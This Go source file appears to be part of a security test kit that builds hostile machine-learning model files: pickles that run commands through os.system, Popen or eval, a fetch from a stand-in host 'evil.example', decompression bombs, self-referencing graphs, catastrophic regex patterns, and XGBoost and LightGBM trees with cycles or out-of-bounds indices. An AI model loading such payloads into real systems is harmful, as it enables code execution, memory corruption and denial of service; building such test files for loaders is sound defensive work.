// SPDX-License-Identifier: Apache-2.0

package hostile

import (
	"bytes"
	"compress/gzip"
	"compress/zlib"
	"embed"
	"fmt"
	"io"
	"strings"

	"github.com/serin-dev/serin/internal/testkit/opcodes"
)

// File is a file that a stranger made, and what it attempts.
type File struct {
	Name     string // with the suffix of its format
	Attempts string
	Data     []byte
}

// Table is a table in Markdown of files and what happens.
func Table(files []File, happens func(File) string) string {
	var b strings.Builder
	fmt.Fprintf(&b, "| file | attempts | what happens |\n|---|---|---|\n")
	for _, f := range files {
		fmt.Fprintf(&b, "| `%s` | %s | %s |\n", f.Name, f.Attempts, strings.ReplaceAll(happens(f), "|", `\|`))
	}
	return b.String()
}

// bombs were made by Python's bz2 and lzma, of a pickle of zeros.
//
//go:embed testdata
var bombs embed.FS

// Models are model files of all formats.
func Models() []File {
	all := append(programs(), graphs()...)
	all = append(all, costly()...)
	all = append(all, trees()...)
	return append(all, boosters()...)
}

// programs ask Python to run something.
func programs() []File {
	return []File{
		{"system.pkl", "to run a command as Python loads it, as `os.system` in `__reduce__` does", pickled(command)},
		{"popen.pkl", "to make a `subprocess.Popen`", pickled("csubprocess\nPopen\n" + opcodes.Text("id") + "\x85\x81")},
		{"eval.joblib", "to call `builtins.eval` by a name from the stack", []byte("\x80\x04\x8c\x08builtins\x8c\x04eval\x93\x8c\x011\x85R.")},
		{"class.pkl", "to run `__setstate__` of a class of the file's author", pickled("cpayload\nModel\n)\x81}" + opcodes.Text("x") + "Nsb")},
		{"kernel.pkl", "to hide a call in an attribute that the reader needs", pickled(opcodes.Object("sklearn.svm._classes.SVC", opcodes.Text("kernel"), command))},
		{"callback.pkl", "to hide a call in an attribute of a good model that predicting does not need", pickled(linear(2, opcodes.Text("callback"), command))},
		{"outside.pkl", "to have the reader fetch an object from elsewhere, by a persistent id", []byte("Phttp://evil.example/x\n.")},
		{"registry.pkl", "to name a class by the registry of extensions", []byte("\x80\x02\x82\x01.")},
		{"terminal.pkl", "to write control codes into a terminal or a status, by the name of a class", pickled("cevil\x1b[2J\nModel\x07\n)\x81}" + opcodes.Text("x") + "Nsb")},
	}
}

// graphs hold objects that mention each other, or one object many times.
func graphs() []File {
	doubled, nested := []string{remember(0, scaler(2))}, linear(2)
	for i := range byte(12) {
		doubled = append(doubled, remember(i+1, pipeline(strings.TrimSuffix(strings.Repeat(recall(i)+"\x86"+opcodes.Text("a"), 10), "\x86"+opcodes.Text("a")))))
	}
	for range 1000 {
		nested = pipeline(nested)
	}
	itself := "]q\x00h\x00a"
	columns := chosen(1, opcodes.Text("passthrough"), itself)
	return []File{
		{"pipeline-in-itself.pkl", "to keep the reader busy forever: a Pipeline whose step is that Pipeline", []byte("\x80\x02csklearn.pipeline\nPipeline\n)\x81q\x00}" + opcodes.Text("steps") + "]" + opcodes.Text("a") + "h\x00\x86asb.")},
		{"list-in-itself.pkl", "to overflow the stack: columns that are a list of which the first item is that list", pickled(pipeline(columns, linear(1)))},
		{"nested.pkl", "to overflow the stack: a thousand Pipelines in each other", pickled(nested)},
		{"doubled.pkl", "to become 10^12 estimators: each Pipeline mentions the one before ten times", pickled(recall(12), doubled...)},
		{"copies.pkl", "to become 100 GB: one long text, encoded again and again", pickled("("+strings.Repeat("h\x00h\x01R", 100_000)+"l", remember(0, "c_codecs\nencode\n"), remember(1, opcodes.Text(strings.Repeat("x", 1<<20))+opcodes.Text("latin1")+"\x86"))},
		{"mentions.pkl", "to fill the memory: a forest that mentions one tree 500,000 times", pickled(opcodes.Object("sklearn.ensemble._forest.RandomForestRegressor",
			opcodes.Text("n_outputs_"), "K\x01", opcodes.Text("n_features_in_"), "K\x02", opcodes.Text("estimators_"), "]("+strings.Repeat(recall(0), 500_000)+"e"), remember(0, tree(2, node{-1, -1, 0})))},
	}
}

// deflated compresses with zlib, as joblib does.
func deflated(content []byte) []byte {
	var b bytes.Buffer
	return written(&b, zlib.NewWriter(&b), content)
}

func gzipped(content []byte) []byte {
	var b bytes.Buffer
	return written(&b, gzip.NewWriter(&b), content)
}

func written(b *bytes.Buffer, w io.WriteCloser, content []byte) []byte {
	if _, err := w.Write(content); err != nil {
		panic(err) // a buffer takes all
	}
	return closed(b, w)
}

func closed(b *bytes.Buffer, w io.Closer) []byte {
	if err := w.Close(); err != nil {
		panic(err)
	}
	return b.Bytes()
}

// costly are small, and become large.
func costly() []File {
	const size = 128 << 20
	zeros := append([]byte("\x80\x03B"+opcodes.Int(size)[1:]), make([]byte, size)...)
	all := []File{
		{"zeros-gzip.joblib", "to fill the memory: 128 MB of zeros in 130 KB of gzip", gzipped(append(zeros, '.'))},
		{"marks-zlib.joblib", "to fill the memory: ten million marks in 10 KB, which each take memory", deflated([]byte(strings.Repeat("(", 10_000_000)))},
	}
	for _, b := range []struct{ name, attempts string }{
		{"zeros-bz2.joblib", "1 GB of zeros in 800 bytes of bzip2"}, {"zeros-xz.joblib", "128 MB of zeros in 20 KB of xz"}, {"zeros-lzma.joblib", "the same with lzma"},
	} {
		data, err := bombs.ReadFile("testdata/" + b.name)
		if err != nil {
			panic(err) // it is embedded
		}
		all = append(all, File{b.name, b.attempts, data})
	}
	passed := "](" + strings.Repeat(opcodes.Text("a")+opcodes.Text("passthrough")+"\x86", 1000)
	wide := opcodes.Object("sklearn.pipeline.FeatureUnion", opcodes.Text("transformer_list"), passed+opcodes.Text("b")+scaler(1<<17)+"\x86e")
	vectorizer := func(class string, more ...string) string {
		return opcodes.Object("sklearn.feature_extraction.text."+class, append([]string{
			opcodes.Text("lowercase"), "\x88", opcodes.Text("ngram_range"), "K\x01K\x01\x86", opcodes.Text("dtype"), "cnumpy\nfloat64\n", opcodes.Text("analyzer"), opcodes.Text("word"),
		}, more...)...)
	}
	vocabulary := opcodes.Text("vocabulary_") + "}" + opcodes.Text("a") + "K\x00s"
	return append(all,
		File{"length.pkl", "to have a gigabyte allocated, of which the file has three bytes", []byte("\x80\x02B\x00\x00\x00\x40abc")},
		File{"shape.pkl", "to overflow the product of a shape", pickled(array(opcodes.Dtype("f8"), "", math31, math31, math31))},
		File{"rows.pkl", "to have 16 GB allocated for a matrix of 2^31-1 rows without columns", pickled(pipeline(opcodes.Object("sklearn.decomposition._pca.PCA",
			opcodes.Text("components_"), array(opcodes.Dtype("f8"), "", math31, 0), opcodes.Text("mean_"), array(opcodes.Dtype("f8"), "", 0)), linear(2)))},
		File{"features.pkl", "to make a block of 2^31 columns of a request of one: a vectorizer that says it has as many", pickled(pipeline(vectorizer("HashingVectorizer", opcodes.Text("n_features"), opcodes.Int(math31), opcodes.Text("norm"), "N"), linear(2)))},
		File{"columns.pkl", "to have gigabytes of metadata made: a ColumnTransformer of 50 million columns, the first of which is a text", pickled(pipeline(chosen(50_000_000,
			opcodes.Object("sklearn.preprocessing._encoders.OneHotEncoder", opcodes.Text("handle_unknown"), opcodes.Text("ignore"), opcodes.Text("categories_"), "]"+array(opcodes.Dtype("U1"), "a\x00\x00\x00", 1)+"a"), "]K\x00a"), linear(1)))},
		File{"union.pkl", "to make a row of 1 GB of each of 1 MB: a FeatureUnion that passes its input through a thousand times", deflated(pickled(pipeline(wide, tree(1001<<17, node{-1, -1, 0}))))},
		File{"pattern.pkl", "to take exponential time for a text: `(?:a+)+b` as a `token_pattern`", pickled(pipeline(vectorizer("CountVectorizer", opcodes.Text("token_pattern"), opcodes.Text("(?:a+)+b"), vocabulary), linear(1)))},
		File{"repeats.pkl", "to make an automaton of a million states of a short `token_pattern`", pickled(pipeline(vectorizer("CountVectorizer", opcodes.Text("token_pattern"), opcodes.Text(`(?:(?:\w{30}a){30}b)`), vocabulary), linear(1)))},
	)
}

const math31 = 1<<31 - 1

// trees would be walked forever, or outside of their arrays.
func trees() []File {
	leaf := node{-1, -1, 0}
	return []File{
		{"tree-cycle.pkl", "to keep each prediction busy forever: a node that is its own child", pickled(tree(2, node{0, 0, 0}, leaf, leaf))},
		{"tree-up.pkl", "the same with a child that comes before its parent", pickled(tree(2, node{1, 4, 0}, node{2, 3, 0}, leaf, node{1, 4, 0}, leaf))},
		{"tree-shared.pkl", "to take exponential time to load: nodes with the same child twice", pickled(tree(2, node{1, 1, 0}, node{2, 2, 0}, leaf))},
		{"tree-child.pkl", "to read memory beyond the nodes", pickled(tree(2, node{1, 1 << 20, 0}, leaf))},
		{"tree-feature.pkl", "to read memory beyond the row", pickled(tree(2, node{1, 2, 1 << 20}, leaf, leaf))},
		{"tree-feature-negative.pkl", "to read memory before the row", pickled(tree(2, node{1, 2, -2}, leaf, leaf))},
	}
}

// boosters are files of XGBoost and LightGBM.
func boosters() []File {
	forest := func(tree string) []byte {
		return []byte(`{"learner":{"learner_model_param":{"num_feature":"2","num_class":"0","base_score":"5E-1"},"objective":{"name":"reg:squarederror"},` +
			`"gradient_booster":{"name":"gbtree","model":{"gbtree_model_param":{"num_parallel_tree":"1"},"tree_info":[0],"trees":[{` + tree + `}]}}},"version":[3,0,5]}`)
	}
	const head = "tree\nversion=v4\nnum_class=1\nnum_tree_per_iteration=1\nmax_feature_idx=1\nobjective=regression\nfeature_names=a b\n\nTree=0\n"
	const fields = `"split_indices":[0,0,0],"split_conditions":[0,1,2],"default_left":[0,0,0]`
	return []File{
		{"cycle.json", "to keep each prediction busy forever: a node of XGBoost that is its own child", forest(`"left_children":[0,-1,-1],"right_children":[2,-1,-1],` + fields)},
		{"category.json", "to write beyond the nodes, by a node's number of 1e300", forest(`"left_children":[1,-1,-1],"right_children":[2,-1,-1],` + fields + `,"categories":[1],"categories_nodes":[1e300],"categories_segments":[0],"categories_sizes":[1]`)},
		{"nested.json", "to overflow the stack: a hundred thousand arrays in each other", []byte(`{"learner":` + strings.Repeat("[", 100_000))},
		{"count.ubj", "to have 2^62 numbers allocated", []byte("{U\x07learner[$d#L\x3f\xff\xff\xff\xff\xff\xff\xff")},
		{"trees.model", "the same in the old binary format: 2^32-1 trees", append(append(make([]byte, 136), "\x10\x00\x00\x00\x00\x00\x00\x00reg:squarederror\x06\x00\x00\x00\x00\x00\x00\x00gbtree\xff\xff\xff\xff"...), make([]byte, 200)...)},
		{"cycle.txt", "to keep each prediction busy forever: a node of LightGBM that is its own child", []byte(head + "num_leaves=2\nnum_cat=0\nsplit_feature=0\nthreshold=1\ndecision_type=2\nleft_child=0\nright_child=-2\nleaf_value=1 2\n\nend of trees\n")},
		{"leaves.txt", "to have 2^31 leaves allocated", []byte(head + "num_leaves=2147483647\nleaf_value=1\n\nend of trees\n")},
	}
}
